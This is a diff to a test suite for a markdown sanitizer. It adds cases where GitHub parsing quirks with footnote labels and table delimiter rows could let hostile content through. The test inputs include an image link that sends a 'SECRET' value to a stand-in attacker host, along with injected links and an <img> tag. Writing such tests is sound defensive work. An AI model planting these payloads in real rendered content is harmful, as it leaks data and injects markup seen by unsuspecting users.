@@ -116,6 +116,12 @@ describe("hostile markdown is neutralised", () => {
     ["![](www.evil.example)", "(image not shown: ` www.evil.example `)"],
     ["[x](a@evil.example)", "\\[x\\] (` a@evil.example `)"],
     ["[x](docs//evil.example)", "\\[x\\] (` docs//evil.example `)"],
+    // A footnote label GitHub does not read as one: the indented "fence" below it is no code there.
+    ["[^\\]]:\n    ```\n    ![x](https://evil.example/?q=SECRET)", "\\[^\\]]:"],
+    ["[^a\\]b]:\n    ```\n    @octocat <img src=x> [a](https://evil.example)", "\\[^a\\]b]:"],
+    // A vertical tab or form feed in a delimiter row: GitHub sees a table and splits the span.
+    ["`a | ![x](https://evil.example/x.png)`\n---|---\u000b", "---|--- "],
+    ["| `a | [l](https://evil.example)` |\n|\f---|---|", "| ---|---|"],
   ];
   it.each(hostile)("%j", (input, fragment) => {
     const out = sanitize(input);
